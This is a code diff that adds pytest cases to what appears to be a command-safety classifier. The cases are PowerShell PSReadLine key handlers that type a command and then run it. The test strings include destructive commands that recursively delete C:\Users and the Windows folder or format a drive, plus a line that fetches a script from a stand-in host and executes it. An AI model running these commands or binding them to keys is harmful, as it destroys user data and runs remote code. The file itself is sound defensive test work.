@@ -376,3 +376,60 @@ BUILT = [
 @pytest.mark.parametrize("command,shell,want", BUILT)
 def test_command_objects(command: str, shell: str, want: object) -> None:
     assert assess(command, shell).level == want
+
+
+# ---------------------------------------------------------------- PSReadLine typing a command
+# A key handler that types text onto the command line (Insert, Replace) and accepts the
+# line runs that text as the user's own command: it is judged as that command.
+_RL = "[Microsoft.PowerShell.PSConsoleReadLine]"
+READLINE = [
+    (
+        f"Set-PSReadLineKeyHandler -Key Spacebar -ScriptBlock {{ {_RL}::Insert('Remove-Item"
+        f" C:\\Users -Recurse -Force'); {_RL}::AcceptLine() }}",
+        "powershell",
+        B,
+    ),
+    (
+        f"Set-PSReadLineKeyHandler -Chord Ctrl+l -ScriptBlock {{ {_RL}::RevertLine();"
+        f' {_RL}::Insert("ri -r -fo $env:windir"); {_RL}::AcceptLine() }}',
+        "powershell",
+        B,
+    ),
+    (
+        "Set-PSReadLineKeyHandler -Key Enter -ScriptBlock { [PSConsoleReadLine]::Replace(0, 0,"
+        " 'format D: /q /y; '); [PSConsoleReadLine]::ValidateAndAcceptLine() }",
+        "powershell",
+        B,
+    ),
+    (
+        f"Set-PSReadLineKeyHandler -Key F9 -ScriptBlock {{ {_RL}::Insert('irm"
+        f" https://x.example/p.ps1 | iex'); {_RL}::AcceptLine() }}",
+        "powershell",
+        C,
+    ),
+    (
+        f"pwsh -c \"Set-PSReadLineKeyHandler -Key Tab -ScriptBlock {{ {_RL}::Insert('rd /s /q"
+        f" C:\\Windows'); {_RL}::AcceptLine() }}\"",
+        "cmd",
+        B,
+    ),
+    # look-alikes: text typed but not run, a harmless command, a plain binding
+    (
+        f"Set-PSReadLineKeyHandler -Key F8 -ScriptBlock {{ {_RL}::Insert('Remove-Item"
+        f" C:\\Users -Recurse -Force') }}",
+        "powershell",
+        S,
+    ),
+    (
+        f"Set-PSReadLineKeyHandler -Key F5 -ScriptBlock {{ {_RL}::Insert('git status');"
+        f" {_RL}::AcceptLine() }}",
+        "powershell",
+        S,
+    ),
+    ("Set-PSReadLineKeyHandler -Key Tab -Function MenuComplete", "powershell", M),
+]
+
+
+@pytest.mark.parametrize("command,shell,want", READLINE)
+def test_readline_typed_commands(command: str, shell: str, want: object) -> None:
+    assert assess(command, shell).level == want
